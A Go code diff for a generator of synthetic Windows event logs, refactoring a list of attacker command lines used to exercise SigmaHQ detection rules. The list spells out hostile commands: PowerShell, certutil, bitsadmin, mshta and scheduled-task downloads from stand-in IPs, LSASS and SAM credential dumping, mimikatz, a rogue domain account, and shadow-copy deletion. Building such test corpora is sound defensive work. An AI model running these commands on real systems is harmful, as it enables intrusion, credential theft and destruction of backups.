@@ -110,48 +110,50 @@ func (g *corpusGen) sec4689() *winDoc {
 	return g.security(4689, "Process Termination", "A process has exited.", "", [][2]string{
 		{"SubjectUserSid", g.sid()}, {"SubjectUserName", user}, {"SubjectDomainName", "CORP"},
 		{"SubjectLogonId", "0x" + strings.ToLower(g.hexN(6))}, {"Status", "0x0"},
-		{"ProcessId", "0x" + strings.ToLower(g.hexN(4))}, {"ProcessName", g.fill(pick(g, benignProcs).image, user)}})
+		{"ProcessId", "0x" + strings.ToLower(g.hexN(4))}, {"ProcessName", g.fill(pick(g, benignProcs()).image, user)}})
 }
 
-// attackProcs are attacker command lines SigmaHQ rules catch.
-var attackProcs = []procTemplate{
-	{sys32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoP -NonI -W Hidden -Enc " +
-		encodedPS("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"),
-		sys32 + "cmd.exe", `cmd.exe /c start /b powershell`, "PowerShell.EXE", "Windows PowerShell", msWin, msCorp, false},
-	{sys32 + "certutil.exe", `certutil.exe -urlcache -split -f http://198.51.100.23/update.exe C:\Users\Public\update.exe`,
-		sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "CertUtil.exe", "CertUtil.exe", msWin, msCorp, false},
-	{sys32 + "rundll32.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {pid} C:\Windows\Temp\lsass.dmp full`,
-		sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "RUNDLL32.EXE", "Windows host process (Rundll32)", msWin, msCorp, true},
-	{sys32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", sys32 + "cmd.exe",
-		`C:\Windows\system32\cmd.exe /c vssadmin.exe delete shadows /all /quiet`, "VSSADMIN.EXE",
-		"Command Line Interface for Microsoft® Volume Shadow Copy Service ", msWin, msCorp, true},
-	{sys32 + "whoami.exe", "whoami /priv", sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "whoami.exe",
-		"whoami - displays logged on user information", msWin, msCorp, false},
-	{`C:\Users\Public\mimikatz.exe`, `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
-		sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "mimikatz.exe", "mimikatz for Windows", "mimikatz",
-		"gentilkiwi (Benjamin DELPY)", false},
-	{sys32 + "reg.exe", `reg.exe save HKLM\SAM C:\Windows\Temp\sam.save`, sys32 + "cmd.exe",
-		`"C:\Windows\system32\cmd.exe"`, "reg.exe", "Registry Console Tool", msWin, msCorp, true},
-	{sys32 + "net.exe", "net user helpdesk P@ssw0rd123! /add /domain", sys32 + "cmd.exe",
-		`"C:\Windows\system32\cmd.exe"`, "net.exe", "Net Command", msWin, msCorp, false},
-	{sys32 + "bitsadmin.exe", `bitsadmin /transfer update /download /priority high http://198.51.100.23/a.exe C:\Users\Public\a.exe`,
-		sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "bitsadmin.exe", "BITS administration utility", msWin, msCorp, false},
-	{sys32 + "mshta.exe", "mshta.exe http://203.0.113.5/payload.hta", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
-		`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\invoice.docm"`,
-		"MSHTA.EXE", "Microsoft (R) HTML Application host", msWin, msCorp, false},
-	{sys32 + "schtasks.exe", `schtasks /create /sc minute /mo 5 /tn "Updater" /tr "powershell -w hidden -c iex(iwr http://203.0.113.5/u.ps1)" /f`,
-		sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "schtasks.exe", "Task Scheduler Configuration Tool", msWin, msCorp, false},
-	{sys32 + "wbem\\WMIC.exe", "wmic shadowcopy delete /nointeractive", sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`,
-		"wmic.exe", "WMI Commandline Utility", msWin, msCorp, true},
+// attackProcs() are attacker command lines SigmaHQ rules catch.
+func attackProcs() []procTemplate {
+	return []procTemplate{
+		{sys32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoP -NonI -W Hidden -Enc " +
+			encodedPS("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"),
+			sys32 + "cmd.exe", `cmd.exe /c start /b powershell`, "PowerShell.EXE", "Windows PowerShell", msWin, msCorp, false},
+		{sys32 + "certutil.exe", `certutil.exe -urlcache -split -f http://198.51.100.23/update.exe C:\Users\Public\update.exe`,
+			sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "CertUtil.exe", "CertUtil.exe", msWin, msCorp, false},
+		{sys32 + "rundll32.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {pid} C:\Windows\Temp\lsass.dmp full`,
+			sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "RUNDLL32.EXE", "Windows host process (Rundll32)", msWin, msCorp, true},
+		{sys32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", sys32 + "cmd.exe",
+			`C:\Windows\system32\cmd.exe /c vssadmin.exe delete shadows /all /quiet`, "VSSADMIN.EXE",
+			"Command Line Interface for Microsoft® Volume Shadow Copy Service ", msWin, msCorp, true},
+		{sys32 + "whoami.exe", "whoami /priv", sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "whoami.exe",
+			"whoami - displays logged on user information", msWin, msCorp, false},
+		{`C:\Users\Public\mimikatz.exe`, `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
+			sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "mimikatz.exe", "mimikatz for Windows", "mimikatz",
+			"gentilkiwi (Benjamin DELPY)", false},
+		{sys32 + "reg.exe", `reg.exe save HKLM\SAM C:\Windows\Temp\sam.save`, sys32 + "cmd.exe",
+			`"C:\Windows\system32\cmd.exe"`, "reg.exe", "Registry Console Tool", msWin, msCorp, true},
+		{sys32 + "net.exe", "net user helpdesk P@ssw0rd123! /add /domain", sys32 + "cmd.exe",
+			`"C:\Windows\system32\cmd.exe"`, "net.exe", "Net Command", msWin, msCorp, false},
+		{sys32 + "bitsadmin.exe", `bitsadmin /transfer update /download /priority high http://198.51.100.23/a.exe C:\Users\Public\a.exe`,
+			sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "bitsadmin.exe", "BITS administration utility", msWin, msCorp, false},
+		{sys32 + "mshta.exe", "mshta.exe http://203.0.113.5/payload.hta", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
+			`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\invoice.docm"`,
+			"MSHTA.EXE", "Microsoft (R) HTML Application host", msWin, msCorp, false},
+		{sys32 + "schtasks.exe", `schtasks /create /sc minute /mo 5 /tn "Updater" /tr "powershell -w hidden -c iex(iwr http://203.0.113.5/u.ps1)" /f`,
+			sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "schtasks.exe", "Task Scheduler Configuration Tool", msWin, msCorp, false},
+		{sys32 + "wbem\\WMIC.exe", "wmic shadowcopy delete /nointeractive", sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`,
+			"wmic.exe", "WMI Commandline Utility", msWin, msCorp, true},
+	}
 }
 
 // attack returns the events of one attacker action.
 func (g *corpusGen) attack() []*winDoc {
 	switch k := g.r.IntN(20); {
 	case k < 13:
-		return []*winDoc{g.sysmonProcess(pick(g, attackProcs))}
+		return []*winDoc{g.sysmonProcess(pick(g, attackProcs()))}
 	case k < 15:
-		return []*winDoc{g.sec4688(pick(g, attackProcs))}
+		return []*winDoc{g.sec4688(pick(g, attackProcs()))}
 	case k < 16:
 		return []*winDoc{g.sysmonAccess(`C:\Users\Public\procdump64.exe`, `C:\Windows\system32\lsass.exe`, "0x1fffff",
 			`C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbgcore.DLL+6c3a|`+
